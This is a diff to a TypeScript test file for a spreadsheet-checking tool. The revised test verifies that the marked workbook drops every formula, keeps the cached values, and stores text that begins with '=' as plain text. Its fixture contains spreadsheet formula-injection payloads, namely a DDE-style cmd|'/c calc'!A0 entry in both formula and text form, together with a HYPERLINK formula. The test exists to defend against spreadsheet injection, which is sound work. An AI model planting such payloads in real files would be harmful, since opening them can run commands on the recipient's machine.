@@ -60,19 +60,29 @@ test('faulty cells come back coloured and commented, and the rest as it was', as
   expect(cellAt(english, '案件', '3,0')?.comment?.text).toMatch(/^sheet 案件, row 4: /);
 });
 
-test('formulas stay formulas and keep their values', async () => {
+test('no formula leaves with it: values stay, and text that would be one is text', async () => {
+  const text = (ref: string, content: string) =>
+    `<c r="${ref}" t="inlineStr"><is><t>${content}</t></is></c>`;
   const rows =
-    '<row r="1"><c r="A1" t="inlineStr"><is><t>日期</t></is></c><c r="B1" t="inlineStr"><is><t>案件编号</t></is></c></row>' +
-    '<row r="2"><c r="A2"><f>TODAY()</f><v>45397</v></c><c r="B2" t="str"><f>"A-"&amp;1</f><v>A-1</v></c></row>';
+    `<row r="1">${text('A1', '日期')}${text('B1', '案件编号')}${text('C1', '事件')}${text('D1', '类别')}</row>` +
+    '<row r="2"><c r="A2"><f>TODAY()</f><v>45397</v></c><c r="B2" t="str"><f>"A-"&amp;1</f><v>A-1</v></c>' +
+    '<c r="C2" t="str"><f>HYPERLINK("http://example.test/?"&amp;B2,"破案")</f><v>破案</v></c></row>' +
+    '<row r="3"><c r="A3"><f>TODAY()</f><v>45397</v></c><c r="B3" t="str"><f>cmd|"/c calc"!A0</f><v>=1+1</v></c>' +
+    `${text('C3', "=cmd|'/c calc'!A0")}<c r="D3" t="str"><f t="array" ref="D3:D4">X1</f><v>盗窃</v></c></row>`;
   const file = zip(parts({ 案件: rows }));
   const { errors } = await answer(file);
   const marked = await markWorkbook(file, errors, 'zh');
-  const again = await answer(marked);
-  expect(again.errors).toEqual(errors);
-  expect(cellAt(await opened(marked), '案件', '1,1')).toMatchObject({
-    formula: '"A-"&1',
-    value: 'A-1',
-  });
+  expect((await answer(marked)).errors).toEqual(errors);
+  const book = await opened(marked);
+  const cells = [...(book.sheets[0]?.cells?.values() ?? [])];
+  expect(cells.filter(({ formula }) => formula !== undefined)).toEqual([]);
+  expect(book.sheets[0]?.rows.slice(1)).toMatchObject([
+    [45_397, 'A-1', '破案', null],
+    [45_397, '=1+1', "=cmd|'/c calc'!A0", '盗窃'],
+  ]);
+  for (const key of ['2,1', '2,2']) {
+    expect(cellAt(book, '案件', key)?.style?.numFmt).toBe('@');
+  }
 });
 
 test('a CSV comes back as a workbook of text, which can be corrected and sent', async () => {
